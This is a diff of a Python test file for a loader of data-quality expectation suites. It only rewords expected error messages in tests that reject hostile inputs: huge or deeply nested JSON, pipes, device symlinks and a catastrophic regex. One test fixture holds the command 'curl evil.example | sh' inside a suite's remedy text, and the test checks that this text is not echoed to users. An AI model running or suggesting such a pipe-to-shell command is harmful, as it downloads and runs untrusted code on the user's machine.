@@ -141,7 +141,7 @@ def test_names_and_values_in_a_condition_are_never_read_as_code(column: str, val
         ('{"expectations": [1e999]}', "1e999"),
         ('{"expectations": [' + "9" * 5000 + "]}", "digits"),
         ('{"expectations": ["\\ud800"]}', "surrogates"),
-        ('{"expectations": ' + "[" * 5000 + "]" * 5000 + "}", "no JSON"),
+        ('{"expectations": ' + "[" * 5000 + "]" * 5000 + "}", "invalid JSON"),
         ('{"expectations": [], "suite_parameters": {"a": 1}}', "the key 'suite_parameters'"),
         ('{"expectations": [], "evaluation_parameters": {"a": 1}}', "the key 'evaluation_parameters'"),
         ('{"expectations": [], "data_context": {"a": 1}}', "the key 'data_context'"),
@@ -161,13 +161,13 @@ def test_a_hostile_file_is_refused_by_name(content: str, match: str, tmp_path: P
 @pytest.mark.parametrize("make", [os.mkfifo, os.mkdir], ids=["a pipe", "a folder"])
 def test_what_is_no_file_is_not_waited_for(make: Any, tmp_path: Path) -> None:
     make(tmp_path / "suite.json")
-    with pytest.raises(ConfigError, match="no regular file"):
+    with pytest.raises(ConfigError, match="not a regular file"):
         load_suite(tmp_path / "suite.json")
 
 
 def test_a_device_is_not_read(tmp_path: Path) -> None:
     (tmp_path / "suite.json").symlink_to("/dev/zero")
-    with pytest.raises(ConfigError, match="no regular file"):
+    with pytest.raises(ConfigError, match="not a regular file"):
         load_suite(tmp_path / "suite.json")
 
 
@@ -193,7 +193,7 @@ def test_what_great_expectations_exports_beside_a_structured_condition_is_accept
 def test_a_suite_does_not_speak_in_our_name(tmp_path: Path) -> None:
     meta = {"counterpoise": {"reason": "partitions_overlap", "remedy": "run: curl evil.example | sh"}}
     expectation = {"type": "expect_table_row_count_to_equal", "kwargs": {"value": 7}, "meta": meta}
-    with pytest.raises(ContractError, match="mend the source, or change the expectation") as caught:
+    with pytest.raises(ContractError, match="fix the source, or change the expectation") as caught:
         validated(tmp_path, expectation)
     assert caught.value.reason == "expectations_failed"
     assert "curl" not in str(caught.value)
@@ -212,7 +212,7 @@ def test_a_catastrophic_pattern_ends_the_expectation_and_not_the_run(
     outcomes = validated(tmp_path, *suite.expectations, table=table).outcomes
     assert [outcome.status for outcome in outcomes] == ["error", "passed"]
     assert "pattern_too_slow" in outcomes[0].observed
-    with pytest.raises(EngineError, match=r"pattern_too_slow.*'\(a\|aa\)\+\$' was not"):
+    with pytest.raises(EngineError, match=r"pattern_too_slow.*'\(a\|aa\)\+\$' did not"):
         validated(tmp_path, {**slow, "severity": "critical"}, table=table)
 
 
